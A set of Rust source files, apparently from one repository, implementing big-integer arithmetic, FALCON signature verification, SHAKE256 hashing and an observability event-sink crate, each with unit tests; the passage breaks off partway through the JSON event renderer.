    pub fn shl(&self, sh: u32) -> Zint {
        if self.is_zero() || sh == 0 {
            return self.clone();
        }
        let limbs = (sh / 64) as usize;
        let bits = sh % 64;
        let mut mag = vec![0u64; limbs];
        if bits == 0 {
            mag.extend_from_slice(&self.mag);
        } else {
            let mut carry = 0u64;
            for &l in &self.mag {
                mag.push((l << bits) | carry);
                carry = l >> (64 - bits);
            }
            if carry != 0 {
                mag.push(carry);
            }
        }
        Zint { neg: self.neg, mag }
    }

    /// Arithmetic right shift by `sh` bits of the magnitude
    /// (rounds toward zero).
    pub fn shr(&self, sh: u32) -> Zint {
        if self.is_zero() {
            return Zint::zero();
        }
        let limbs = (sh / 64) as usize;
        if limbs >= self.mag.len() {
            return Zint::zero();
        }
        let bits = sh % 64;
        let src = &self.mag[limbs..];
        let mut mag = Vec::with_capacity(src.len());
        if bits == 0 {
            mag.extend_from_slice(src);
        } else {
            for i in 0..src.len() {
                let hi = src.get(i + 1).copied().unwrap_or(0);
                mag.push((src[i] >> bits) | (hi << (64 - bits)));
            }
        }
        let mut z = Zint { neg: self.neg, mag };
        z.trim();
        z
    }

    /// Exact conversion to `i64` if the value fits.
    pub fn to_i64(&self) -> Option<i64> {
        match self.mag.len() {
            0 => Some(0),
            1 => {
                let m = self.mag[0];
                if self.neg {
                    if m <= 1u64 << 63 {
                        Some((m as i128).wrapping_neg() as i64)
                    } else {
                        None
                    }
                } else if m < 1u64 << 63 {
                    Some(m as i64)
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// Signed comparison.
    pub fn cmp_signed(&self, other: &Zint) -> Ordering {
        match (self.is_negative(), other.is_negative()) {
            (false, true) => Ordering::Greater,
            (true, false) => Ordering::Less,
            (false, false) => Self::cmp_mag(&self.mag, &other.mag),
            (true, true) => Self::cmp_mag(&other.mag, &self.mag),
        }
    }

    /// Returns `(mantissa, exponent)` such that the value is
    /// approximately `mantissa · 2^exponent`, with `mantissa` an `f64`
    /// built from the top 53 bits. Used by the Babai reduction to project
    /// huge integers onto floats.
    pub fn to_f64_exp(&self) -> (f64, i32) {
        let bits = self.bits();
        if bits == 0 {
            return (0.0, 0);
        }
        // Take the top (up to) 63 bits exactly.
        let sh = bits.saturating_sub(63);
        let top = self.shr(sh);
        let mut v = top.mag.first().copied().unwrap_or(0) as f64;
        if self.neg {
            v = -v;
        }
        (v, sh as i32)
    }

    /// Approximate `f64` value `mantissa · 2^exponent` (may overflow to
    /// infinity for huge values; callers use [`Zint::to_f64_exp`] when the
    /// scale matters).
    pub fn to_f64(&self) -> f64 {
        let (m, e) = self.to_f64_exp();
        m * 2f64.powi(e)
    }

    /// Extended binary GCD: returns `(g, u, v)` with `u·a + v·b = g`,
    /// `g = gcd(|a|, |b|) >= 0`.
    ///
    /// Both inputs must be non-negative (the NTRU solver's base case only
    /// needs that case; it fails key generation on negative resultants
    /// upstream).
    pub fn xgcd(a: &Zint, b: &Zint) -> (Zint, Zint, Zint) {
        assert!(!a.is_negative() && !b.is_negative(), "xgcd needs non-negative inputs");
        // Classical Euclidean algorithm built on divmod.
        let mut r0 = a.clone();
        let mut r1 = b.clone();
        let (mut s0, mut s1) = (Zint::one(), Zint::zero());
        let (mut t0, mut t1) = (Zint::zero(), Zint::one());
        while !r1.is_zero() {
            let (q, r) = r0.divmod(&r1);
            let ns = s0.sub(&q.mul(&s1));
            let nt = t0.sub(&q.mul(&t1));
            r0 = r1;
            r1 = r;
            s0 = s1;
            s1 = ns;
            t0 = t1;
            t1 = nt;
        }
        (r0, s0, t0)
    }

    /// Euclidean division of non-negative values: `(quotient, remainder)`
    /// with `0 <= remainder < divisor`.
    ///
    /// # Panics
    ///
    /// Panics if the divisor is zero or either operand is negative.
    pub fn divmod(&self, div: &Zint) -> (Zint, Zint) {
        assert!(!div.is_zero(), "division by zero");
        assert!(!self.is_negative() && !div.is_negative());
        if Self::cmp_mag(&self.mag, &div.mag) == Ordering::Less {
            return (Zint::zero(), self.clone());
        }
        // Binary long division: shift-subtract from the top bit down.
        let shift = self.bits() - div.bits();
        let mut rem = self.clone();
        let mut quo = Zint::zero();
        for sh in (0..=shift).rev() {
            let d = div.shl(sh);
            if Self::cmp_mag(&rem.mag, &d.mag) != Ordering::Less {
                rem = Zint { neg: false, mag: Self::sub_mag(&rem.mag, &d.mag) };
                quo = quo.add(&Zint::one().shl(sh));
            }
        }
        (quo, rem)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn z(v: i64) -> Zint {
        Zint::from_i64(v)
    }

    #[test]
    fn small_arithmetic_matches_i128() {
        let vals = [-9i64, -3, -1, 0, 1, 2, 7, 100, -12289, 1 << 40];
        for &a in &vals {
            for &b in &vals {
                assert_eq!(z(a).add(&z(b)).to_i64(), Some(a + b), "{a}+{b}");
                assert_eq!(z(a).sub(&z(b)).to_i64(), Some(a - b), "{a}-{b}");
                let p = (a as i128) * (b as i128);
                if let Ok(p64) = i64::try_from(p) {
                    assert_eq!(z(a).mul(&z(b)).to_i64(), Some(p64), "{a}*{b}");
                }
            }
        }
    }

    #[test]
    fn shifts() {
        let v = z(0x1234_5678).shl(100);
        assert_eq!(v.shr(100).to_i64(), Some(0x1234_5678));
        assert_eq!(v.bits(), 29 + 100);
        assert_eq!(z(-8).shr(2).to_i64(), Some(-2));
        assert_eq!(z(0).shl(64).to_i64(), Some(0));
    }

    #[test]
    fn big_multiplication_is_consistent() {
        // (2^200 + 1)(2^200 - 1) = 2^400 - 1
        let a = Zint::one().shl(200).add(&Zint::one());
        let b = Zint::one().shl(200).sub(&Zint::one());
        let p = a.mul(&b);
        let want = Zint::one().shl(400).sub(&Zint::one());
        assert_eq!(p, want);
    }

    #[test]
    fn karatsuba_matches_schoolbook() {
        // Build operands large enough to trigger the Karatsuba path.
        let mut a = Zint::zero();
        let mut b = Zint::zero();
        for i in 0..80u32 {
            a = a.add(&z((i as i64 + 1) * 0x9E37_79B9).shl(64 * i));
            b = b.add(&z((i as i64 * 7 + 3) * 0x85EB_CA6B).shl(64 * i));
        }
        let fast = Zint::mul_mag(&a.mag, &b.mag);
        let slow = Zint::mul_mag_school(&a.mag, &b.mag);
        assert_eq!(fast, slow);
    }

    #[test]
    fn divmod_random() {
        let a = Zint::one().shl(300).add(&z(123_456_789));
        let b = z(987_654_321);
        let (q, r) = a.divmod(&b);
        assert_eq!(q.mul(&b).add(&r), a);
        assert!(r.cmp_signed(&b) == Ordering::Less);
    }

    #[test]
    fn xgcd_bezout() {
        let cases = [(240i64, 46), (12289, 512), (1, 1), (17, 0), (0, 5), (7919, 7907)];
        for (a, b) in cases {
            let (g, u, v) = Zint::xgcd(&z(a), &z(b));
            let lhs = z(a).mul(&u).add(&z(b).mul(&v));
            assert_eq!(lhs, g, "bezout {a} {b}");
            // gcd check against the Euclid oracle.
            let (mut x, mut y) = (a.unsigned_abs(), b.unsigned_abs());
            while y != 0 {
                let t = x % y;
                x = y;
                y = t;
            }
            assert_eq!(g.to_i64(), Some(x as i64), "gcd {a} {b}");
        }
    }

    #[test]
    fn to_f64_exp_scale() {
        let v = z(3).shl(500);
        let (m, e) = v.to_f64_exp();
        let approx = m * 2f64.powi(e - 500);
        assert!((approx - 3.0).abs() < 1e-9);
        let neg = z(-3).shl(500);
        assert!(neg.to_f64_exp().0 < 0.0);
    }

    #[test]
    fn comparisons() {
        assert_eq!(z(-5).cmp_signed(&z(3)), Ordering::Less);
        assert_eq!(z(5).cmp_signed(&z(-3)), Ordering::Greater);
        assert_eq!(z(-5).cmp_signed(&z(-3)), Ordering::Less);
        assert_eq!(z(5).cmp_signed(&z(5)), Ordering::Equal);
    }

    #[test]
    fn debug_formatting() {
        assert_eq!(format!("{:?}", z(0)), "Zint(0)");
        assert!(format!("{:?}", z(-255)).starts_with("Zint(-0x"));
    }
}
