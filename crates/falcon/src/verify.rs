//! Signature verification.
//!
//! Accepts `(r, s2)` over `msg` iff, with `c = HashToPoint(r ‖ msg)` and
//! `s1 = c − s2·h mod q` (centered), the vector `(s1, s2)` is short:
//! `‖s1‖² + ‖s2‖² ≤ ⌊β²⌋`.

use crate::hash::hash_to_point;
use crate::keygen::VerifyingKey;
use crate::ntt::NttTables;
use crate::poly::{mul_mod_q_centered, norm_sq};
use crate::sign::Signature;

/// Verifies `sig` on `msg` under `vk`.
pub fn verify(vk: &VerifyingKey, msg: &[u8], sig: &Signature) -> bool {
    let logn = vk.logn();
    if sig.logn() != logn {
        return false;
    }
    let n = logn.n();
    let s2 = sig.s2();
    if s2.len() != n {
        return false;
    }
    let c = hash_to_point(sig.salt(), msg, n);
    let tables = NttTables::new(logn.logn());
    let s2h = mul_mod_q_centered(s2, vk.h(), &tables);
    let s1: Vec<i16> = c
        .iter()
        .zip(&s2h)
        .map(|(&ci, &p)| {
            crate::ntt::mq_to_signed(crate::ntt::mq_from_signed(ci as i32 - p as i32)) as i16
        })
        .collect();
    norm_sq(&[&s1, s2]) <= logn.l2_bound()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keygen::KeyPair;
    use crate::params::LogN;
    use crate::rng::Prng;

    #[test]
    fn tampered_signature_rejected() {
        let mut rng = Prng::from_seed(b"verify tamper");
        let kp = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
        let sig = kp.signing_key().sign(b"payload", &mut rng);
        assert!(kp.verifying_key().verify(b"payload", &sig));

        // Flip one coefficient: the vector is no longer a lattice point
        // close to c, so s1 blows up mod q.
        let mut s2 = sig.s2().to_vec();
        s2[0] += 1;
        let forged = Signature::from_parts(sig.logn(), *sig.salt(), s2).unwrap();
        assert!(!kp.verifying_key().verify(b"payload", &forged));
    }

    #[test]
    fn wrong_key_rejected() {
        let mut rng = Prng::from_seed(b"verify wrongkey");
        let kp1 = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
        let kp2 = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
        let sig = kp1.signing_key().sign(b"m", &mut rng);
        assert!(!kp2.verifying_key().verify(b"m", &sig));
    }

    #[test]
    fn salt_binding() {
        let mut rng = Prng::from_seed(b"verify salt");
        let kp = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
        let sig = kp.signing_key().sign(b"m", &mut rng);
        let mut salt = *sig.salt();
        salt[0] ^= 1;
        let moved = Signature::from_parts(sig.logn(), salt, sig.s2().to_vec()).unwrap();
        assert!(!kp.verifying_key().verify(b"m", &moved));
    }

    #[test]
    fn parameter_mismatch_rejected() {
        let mut rng = Prng::from_seed(b"verify logn");
        let kp4 = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
        let kp5 = KeyPair::generate(LogN::new(5).unwrap(), &mut rng);
        let sig = kp4.signing_key().sign(b"m", &mut rng);
        assert!(!kp5.verifying_key().verify(b"m", &sig));
    }
}
