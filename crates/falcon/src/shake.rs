//! SHAKE256 extendable-output function (Keccak-f\[1600\]).
//!
//! Used by FALCON for hash-to-point and for seeding the signing PRNG.

/// Keccak round constants.
const RC: [u64; 24] = [
    0x0000000000000001,
    0x0000000000008082,
    0x800000000000808A,
    0x8000000080008000,
    0x000000000000808B,
    0x0000000080000001,
    0x8000000080008081,
    0x8000000000008009,
    0x000000000000008A,
    0x0000000000000088,
    0x0000000080008009,
    0x000000008000000A,
    0x000000008000808B,
    0x800000000000008B,
    0x8000000000008089,
    0x8000000000008003,
    0x8000000000008002,
    0x8000000000000080,
    0x000000000000800A,
    0x800000008000000A,
    0x8000000080008081,
    0x8000000000008080,
    0x0000000080000001,
    0x8000000080008008,
];

/// Rotation offsets, indexed `[x + 5y]`.
const RHO: [u32; 25] =
    [0, 1, 62, 28, 27, 36, 44, 6, 55, 20, 3, 10, 43, 25, 39, 41, 45, 15, 21, 8, 18, 2, 61, 56, 14];

/// SHAKE256 rate in bytes.
const RATE: usize = 136;

fn keccak_f(a: &mut [u64; 25]) {
    for &rc in RC.iter() {
        // θ
        let mut c = [0u64; 5];
        for x in 0..5 {
            c[x] = a[x] ^ a[x + 5] ^ a[x + 10] ^ a[x + 15] ^ a[x + 20];
        }
        let mut d = [0u64; 5];
        for x in 0..5 {
            d[x] = c[(x + 4) % 5] ^ c[(x + 1) % 5].rotate_left(1);
        }
        for y in 0..5 {
            for x in 0..5 {
                a[x + 5 * y] ^= d[x];
            }
        }
        // ρ and π
        let mut b = [0u64; 25];
        for y in 0..5 {
            for x in 0..5 {
                b[y + 5 * ((2 * x + 3 * y) % 5)] = a[x + 5 * y].rotate_left(RHO[x + 5 * y]);
            }
        }
        // χ
        for y in 0..5 {
            for x in 0..5 {
                a[x + 5 * y] = b[x + 5 * y] ^ (!b[(x + 1) % 5 + 5 * y] & b[(x + 2) % 5 + 5 * y]);
            }
        }
        // ι
        a[0] ^= rc;
    }
}

/// Incremental SHAKE256 context.
///
/// ```
/// use falcon_sig::shake::Shake256;
/// let mut xof = Shake256::new();
/// xof.absorb(b"falcon");
/// let mut out = [0u8; 8];
/// xof.squeeze(&mut out);
/// ```
#[derive(Debug, Clone)]
pub struct Shake256 {
    state: [u64; 25],
    /// Byte position inside the rate portion.
    pos: usize,
    /// True once `finalize` has switched the context to squeezing.
    squeezing: bool,
}

impl Default for Shake256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Shake256 {
    /// Creates an empty context in absorbing state.
    pub fn new() -> Self {
        Shake256 { state: [0; 25], pos: 0, squeezing: false }
    }

    /// One-shot helper: hash `data` and squeeze `out.len()` bytes.
    pub fn digest(data: &[u8], out: &mut [u8]) {
        let mut x = Shake256::new();
        x.absorb(data);
        x.squeeze(out);
    }

    /// Absorbs input bytes.
    ///
    /// # Panics
    ///
    /// Panics if called after squeezing has started.
    pub fn absorb(&mut self, data: &[u8]) {
        assert!(!self.squeezing, "absorb after squeeze");
        for &byte in data {
            self.state[self.pos / 8] ^= (byte as u64) << (8 * (self.pos % 8));
            self.pos += 1;
            if self.pos == RATE {
                keccak_f(&mut self.state);
                self.pos = 0;
            }
        }
    }

    fn finalize(&mut self) {
        // SHAKE domain separation (0x1F) and final bit of pad10*1.
        self.state[self.pos / 8] ^= 0x1Fu64 << (8 * (self.pos % 8));
        self.state[(RATE - 1) / 8] ^= 0x80u64 << (8 * ((RATE - 1) % 8));
        keccak_f(&mut self.state);
        self.pos = 0;
        self.squeezing = true;
    }

    /// Squeezes output bytes; may be called repeatedly.
    pub fn squeeze(&mut self, out: &mut [u8]) {
        if !self.squeezing {
            self.finalize();
        }
        for byte in out.iter_mut() {
            if self.pos == RATE {
                keccak_f(&mut self.state);
                self.pos = 0;
            }
            *byte = (self.state[self.pos / 8] >> (8 * (self.pos % 8))) as u8;
            self.pos += 1;
        }
    }

    /// Squeezes a big-endian 16-bit word (the order used by FALCON's
    /// hash-to-point).
    pub fn squeeze_u16_be(&mut self) -> u16 {
        let mut b = [0u8; 2];
        self.squeeze(&mut b);
        u16::from_be_bytes(b)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    #[test]
    fn empty_input_test_vector() {
        // SHAKE256(""), first 32 bytes (FIPS 202 reference value).
        let mut out = [0u8; 32];
        Shake256::digest(b"", &mut out);
        assert_eq!(hex(&out), "46b9dd2b0ba88d13233b3feb743eeb243fcd52ea62b81b82b50c27646ed5762f");
    }

    #[test]
    fn abc_test_vector() {
        // SHAKE256("abc"), first 32 bytes.
        let mut out = [0u8; 32];
        Shake256::digest(b"abc", &mut out);
        assert_eq!(hex(&out), "483366601360a8771c6863080cc4114d8db44530f8f1e1ee4f94ea37e78b5739");
    }

    #[test]
    fn incremental_absorb_matches_oneshot() {
        let mut a = Shake256::new();
        a.absorb(b"hello ");
        a.absorb(b"world, this is a message long enough to cross nothing");
        let mut out_a = [0u8; 64];
        a.squeeze(&mut out_a);

        let mut out_b = [0u8; 64];
        Shake256::digest(
            b"hello world, this is a message long enough to cross nothing",
            &mut out_b,
        );
        assert_eq!(out_a, out_b);
    }

    #[test]
    fn incremental_squeeze_matches_oneshot() {
        let mut a = Shake256::new();
        a.absorb(b"squeeze me");
        let mut chunks = [0u8; 300];
        // Squeeze in irregular chunks across the rate boundary.
        let (c1, rest) = chunks.split_at_mut(7);
        let (c2, c3) = rest.split_at_mut(200);
        a.squeeze(c1);
        a.squeeze(c2);
        a.squeeze(c3);

        let mut whole = [0u8; 300];
        Shake256::digest(b"squeeze me", &mut whole);
        assert_eq!(chunks, whole);
    }

    #[test]
    fn long_input_crosses_rate() {
        let data = vec![0xA5u8; 1000];
        let mut out = [0u8; 16];
        Shake256::digest(&data, &mut out);
        // Determinism check and non-triviality.
        let mut out2 = [0u8; 16];
        Shake256::digest(&data, &mut out2);
        assert_eq!(out, out2);
        assert_ne!(out, [0u8; 16]);
    }
}
