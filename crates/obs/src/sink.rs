//! Event sinks and the global emit switch.
//!
//! The default state is "no sink": [`emit`] then costs one relaxed
//! atomic load and never builds the event. Installing a sink
//! ([`set_sink`]) flips the switch; clearing it ([`clear_sink`])
//! restores the zero-cost path.

use crate::event::Event;
use std::io::Write;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, OnceLock, RwLock};

/// Receives structured events (must tolerate concurrent emitters).
pub trait EventSink: Send + Sync {
    /// Handles one event.
    fn emit(&self, ev: &Event);

    /// Flushes any buffering (default: nothing).
    fn flush(&self) {}
}

/// Discards everything. Installing it is equivalent to — but slower
/// than — [`clear_sink`]; it exists for tests and explicit plumbing.
#[derive(Debug, Default, Clone, Copy)]
pub struct NoopSink;

impl EventSink for NoopSink {
    fn emit(&self, _ev: &Event) {}
}

/// Writes one JSON object per line to an arbitrary writer.
pub struct JsonlSink {
    w: Mutex<Box<dyn Write + Send>>,
}

impl JsonlSink {
    /// Wraps a writer.
    pub fn new(w: impl Write + Send + 'static) -> JsonlSink {
        JsonlSink { w: Mutex::new(Box::new(w)) }
    }

    /// Creates (truncating) a JSONL file at `path`, buffered.
    pub fn create(path: impl AsRef<std::path::Path>) -> std::io::Result<JsonlSink> {
        Ok(JsonlSink::new(std::io::BufWriter::new(std::fs::File::create(path)?)))
    }
}

impl EventSink for JsonlSink {
    fn emit(&self, ev: &Event) {
        let mut line = ev.to_json();
        line.push('\n');
        let mut w = self.w.lock().expect("jsonl sink lock");
        // A sink must never panic the pipeline on a full disk; drop the
        // line instead.
        let _ = w.write_all(line.as_bytes());
    }

    fn flush(&self) {
        let _ = self.w.lock().expect("jsonl sink lock").flush();
    }
}

impl std::fmt::Debug for JsonlSink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("JsonlSink").finish_non_exhaustive()
    }
}

/// Accumulates rendered JSON lines in memory (tests, harnesses).
#[derive(Debug, Default)]
pub struct MemorySink {
    lines: Mutex<Vec<String>>,
}

impl MemorySink {
    /// The captured lines so far.
    pub fn lines(&self) -> Vec<String> {
        self.lines.lock().expect("memory sink lock").clone()
    }

    /// Number of captured events.
    pub fn len(&self) -> usize {
        self.lines.lock().expect("memory sink lock").len()
    }

    /// True when nothing has been captured.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl EventSink for MemorySink {
    fn emit(&self, ev: &Event) {
        self.lines.lock().expect("memory sink lock").push(ev.to_json());
    }
}

static ENABLED: AtomicBool = AtomicBool::new(false);

fn slot() -> &'static RwLock<Option<Arc<dyn EventSink>>> {
    static SINK: OnceLock<RwLock<Option<Arc<dyn EventSink>>>> = OnceLock::new();
    SINK.get_or_init(|| RwLock::new(None))
}

/// Installs the process-wide event sink and enables event emission.
pub fn set_sink(sink: Arc<dyn EventSink>) {
    *slot().write().expect("sink lock") = Some(sink);
    ENABLED.store(true, Ordering::Release);
}

/// Removes the sink (flushing it first) and restores the zero-cost
/// no-op path.
pub fn clear_sink() {
    ENABLED.store(false, Ordering::Release);
    let prev = slot().write().expect("sink lock").take();
    if let Some(s) = prev {
        s.flush();
    }
}

/// True when a sink is installed.
#[inline]
pub fn sink_enabled() -> bool {
    ENABLED.load(Ordering::Acquire)
}

/// Emits an event — lazily: `build` runs only when a sink is installed,
/// so the disabled path is one atomic load plus the op-count bump.
#[inline]
pub fn emit<F: FnOnce() -> Event>(build: F) {
    crate::note_op();
    if !sink_enabled() {
        return;
    }
    let sink = slot().read().expect("sink lock").clone();
    if let Some(s) = sink {
        s.emit(&build());
    }
}
