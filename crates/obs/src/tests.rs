//! Self-tests for the observability substrate: span nesting, histogram
//! bucket boundaries, JSONL round-trip, and the zero-event guarantee of
//! the no-op default.

use crate::event::{parse_jsonl, Event, Value};
use crate::registry::{metrics, Histogram, MetricsSnapshot};
use crate::sink::{clear_sink, emit, set_sink, sink_enabled, MemorySink, NoopSink};
use crate::span::{span, span_depth};
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};

/// The sink is process-global; tests that install one must not overlap.
fn sink_lock() -> MutexGuard<'static, ()> {
    static LOCK: OnceLock<Mutex<()>> = OnceLock::new();
    LOCK.get_or_init(|| Mutex::new(())).lock().unwrap_or_else(|e| e.into_inner())
}

fn histogram(name: &str, bounds: &[f64]) -> Arc<Histogram> {
    metrics().histogram(name, bounds)
}

#[test]
fn counter_gauge_accumulate_and_snapshot() {
    let c = metrics().counter("test.counter");
    let before = c.get();
    c.add(5);
    c.incr();
    assert_eq!(c.get(), before + 6);
    metrics().gauge("test.gauge").set(2.5);
    let snap = metrics().snapshot();
    assert_eq!(snap.counter("test.counter"), before + 6);
    assert_eq!(snap.gauges["test.gauge"], 2.5);
    // Absent names read as zero, and deltas saturate.
    assert_eq!(snap.counter("test.never-created"), 0);
    assert_eq!(MetricsSnapshot::default().counter_delta(&snap, "test.counter"), 0);
}

#[test]
fn histogram_bucket_boundaries_are_inclusive_upper() {
    let h = histogram("test.hist.bounds", &[1.0, 10.0, 100.0]);
    // Value == bound lands in that bound's bucket; value just above
    // spills into the next; values beyond every bound hit the overflow
    // bucket.
    for v in [0.0, 1.0] {
        h.record(v);
    }
    h.record(1.0000001);
    h.record(10.0);
    h.record(100.0);
    h.record(100.0000001);
    h.record(1e9);
    assert_eq!(h.bucket_counts(), vec![2, 2, 1, 2]);
    assert_eq!(h.count(), 7);
    let want_sum = 0.0 + 1.0 + 1.0000001 + 10.0 + 100.0 + 100.0000001 + 1e9;
    assert!((h.sum() - want_sum).abs() < 1e-6 * want_sum);
}

#[test]
fn histogram_duration_bounds_cover_campaign_scales() {
    let b = crate::registry::duration_bounds();
    assert!(b.first().copied() == Some(1e-6));
    assert!(b.windows(2).all(|w| w[0] < w[1]));
    assert!(*b.last().unwrap() > 60.0, "top finite bucket must exceed a minute");
}

#[test]
#[should_panic(expected = "increasing")]
fn histogram_rejects_unsorted_bounds() {
    let _ = histogram("test.hist.bad", &[2.0, 1.0]);
}

#[test]
fn span_nesting_depths_and_histogram_recording() {
    let _guard = sink_lock();
    let mem = Arc::new(MemorySink::default());
    set_sink(mem.clone());
    assert_eq!(span_depth(), 0);
    {
        let outer = span("test.outer");
        assert_eq!(outer.depth(), 0);
        assert_eq!(span_depth(), 1);
        {
            let inner = span("test.inner");
            assert_eq!(inner.depth(), 1);
            assert_eq!(span_depth(), 2);
        }
        assert_eq!(span_depth(), 1);
        assert!(outer.elapsed_secs() >= 0.0);
        assert_eq!(outer.name(), "test.outer");
    }
    assert_eq!(span_depth(), 0);
    clear_sink();

    // Both spans recorded durations into their histograms...
    let snap = metrics().snapshot();
    assert!(snap.histograms["span.test.outer"].count >= 1);
    assert!(snap.histograms["span.test.inner"].count >= 1);
    // ...and emitted events carrying their depths (inner drops first).
    let lines = mem.lines();
    assert_eq!(lines.len(), 2);
    let inner = parse_jsonl(&lines[0]).unwrap();
    let outer = parse_jsonl(&lines[1]).unwrap();
    let field =
        |f: &[(String, Value)], k: &str| f.iter().find(|(key, _)| key == k).map(|(_, v)| v.clone());
    assert_eq!(field(&inner, "name"), Some(Value::Str("test.inner".into())));
    assert_eq!(field(&inner, "depth"), Some(Value::U64(1)));
    assert_eq!(field(&outer, "depth"), Some(Value::U64(0)));
    // The inner span's wall time is contained in the outer's.
    let secs = |f: &[(String, Value)]| match field(f, "secs") {
        Some(Value::F64(s)) => s,
        other => panic!("secs missing: {other:?}"),
    };
    assert!(secs(&inner) <= secs(&outer));
}

#[test]
fn jsonl_round_trips_through_the_parser() {
    let ev = Event::new("unit.test")
        .with_u64("count", 42)
        .with_i64("delta", -7)
        .with_f64("ratio", 0.125)
        .with_f64("big", 1.5e300)
        .with_bool("ok", true)
        .with_str("label", "quote\" slash\\ newline\n tab\t unicode\u{1F980}é");
    let line = ev.to_json();
    let fields = parse_jsonl(&line).expect("parse back");
    assert_eq!(fields[0], ("ev".into(), Value::Str("unit.test".into())));
    assert_eq!(fields[1], ("count".into(), Value::U64(42)));
    assert_eq!(fields[2], ("delta".into(), Value::I64(-7)));
    assert_eq!(fields[3], ("ratio".into(), Value::F64(0.125)));
    assert_eq!(fields[4], ("big".into(), Value::F64(1.5e300)));
    assert_eq!(fields[5], ("ok".into(), Value::Bool(true)));
    assert_eq!(
        fields[6],
        ("label".into(), Value::Str("quote\" slash\\ newline\n tab\t unicode\u{1F980}é".into()))
    );
}

#[test]
fn jsonl_parser_rejects_malformed_lines() {
    for bad in ["", "{", "{\"a\":}", "{\"a\":1", "{\"a\" 1}", "{\"a\":1}extra", "[1,2]"] {
        assert!(parse_jsonl(bad).is_none(), "accepted {bad:?}");
    }
    assert_eq!(parse_jsonl("{}").unwrap(), vec![]);
}

#[test]
fn jsonl_sink_writes_parseable_lines() {
    let _guard = sink_lock();
    let buf = Arc::new(Mutex::new(Vec::<u8>::new()));
    struct Shared(Arc<Mutex<Vec<u8>>>);
    impl std::io::Write for Shared {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    set_sink(Arc::new(crate::sink::JsonlSink::new(Shared(buf.clone()))));
    emit(|| Event::new("line.one").with_u64("i", 1));
    emit(|| Event::new("line.two").with_str("s", "x"));
    clear_sink(); // flushes
    let text = String::from_utf8(buf.lock().unwrap().clone()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    for line in lines {
        let fields = parse_jsonl(line).expect("every emitted line parses");
        assert_eq!(fields[0].0, "ev");
    }
}

#[test]
fn noop_default_emits_zero_events_and_never_builds_them() {
    let _guard = sink_lock();
    // Capture proof that a sink *would* see events...
    let mem = Arc::new(MemorySink::default());
    set_sink(mem.clone());
    emit(|| Event::new("visible"));
    assert_eq!(mem.len(), 1);
    // ...then return to the default no-op state: nothing further arrives
    // and the event-builder closure is never invoked.
    clear_sink();
    assert!(!sink_enabled());
    let mut built = false;
    emit(|| {
        built = true;
        Event::new("invisible")
    });
    assert!(!built, "disabled emit must not build the event");
    assert_eq!(mem.len(), 1, "no-op sink state must add zero events");
    // The explicit NoopSink also swallows events (but does build them).
    set_sink(Arc::new(NoopSink));
    emit(|| Event::new("swallowed"));
    clear_sink();
    assert_eq!(mem.len(), 1);
}

#[test]
fn ops_counter_counts_primitive_operations() {
    let before = crate::ops();
    metrics().counter("test.ops").incr();
    metrics().gauge("test.ops.gauge").set(1.0);
    histogram("test.ops.hist", &[1.0]).record(0.5);
    emit(|| Event::new("not built"));
    let delta = crate::ops() - before;
    // Exactly one op per primitive — plus possibly concurrent test
    // threads, so lower-bound only.
    assert!(delta >= 4, "expected >= 4 ops, got {delta}");
}
