//! Structured events and their JSON-lines rendering.
//!
//! An [`Event`] is a flat record: a name plus key/value fields. The
//! rendering is one JSON object per line with the event name under the
//! reserved `"ev"` key — greppable, streamable, and parseable by the
//! minimal [`parse_jsonl`] reader without any external dependency.

/// A field value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// Unsigned integer.
    U64(u64),
    /// Signed integer.
    I64(i64),
    /// Floating point (rendered with enough digits to round-trip).
    F64(f64),
    /// Boolean.
    Bool(bool),
    /// String (JSON-escaped on render).
    Str(String),
}

/// A structured event: name plus ordered key/value fields.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    /// Event name (the JSON `"ev"` field).
    pub name: &'static str,
    /// Ordered fields.
    pub fields: Vec<(&'static str, Value)>,
}

impl Event {
    /// Starts an event with no fields.
    pub fn new(name: &'static str) -> Event {
        Event { name, fields: Vec::new() }
    }

    /// Adds an unsigned-integer field.
    #[must_use]
    pub fn with_u64(mut self, key: &'static str, v: u64) -> Event {
        self.fields.push((key, Value::U64(v)));
        self
    }

    /// Adds a signed-integer field.
    #[must_use]
    pub fn with_i64(mut self, key: &'static str, v: i64) -> Event {
        self.fields.push((key, Value::I64(v)));
        self
    }

    /// Adds a floating-point field.
    #[must_use]
    pub fn with_f64(mut self, key: &'static str, v: f64) -> Event {
        self.fields.push((key, Value::F64(v)));
        self
    }

    /// Adds a boolean field.
    #[must_use]
    pub fn with_bool(mut self, key: &'static str, v: bool) -> Event {
        self.fields.push((key, Value::Bool(v)));
        self
    }

    /// Adds a string field.
    #[must_use]
    pub fn with_str(mut self, key: &'static str, v: impl Into<String>) -> Event {
        self.fields.push((key, Value::Str(v.into())));
        self
    }

    /// Renders the event as one JSON object (no trailing newline).
    pub fn to_json(&self) -> String {
        let mut out = String::with_capacity(32 + 16 * self.fields.len());
        out.push_str("{\"ev\":");
        escape_into(self.name, &mut out);
        for (k, v) in &self.fields {
            out.push(',');
            escape_into(k, &mut out);
            out.push(':');
            match v {
                Value::U64(n) => out.push_str(&n.to_string()),
                Value::I64(n) => out.push_str(&n.to_string()),
                // `{:?}` prints f64 with round-trip precision and always
                // keeps a decimal point or exponent, so the parser can
                // tell it apart from an integer.
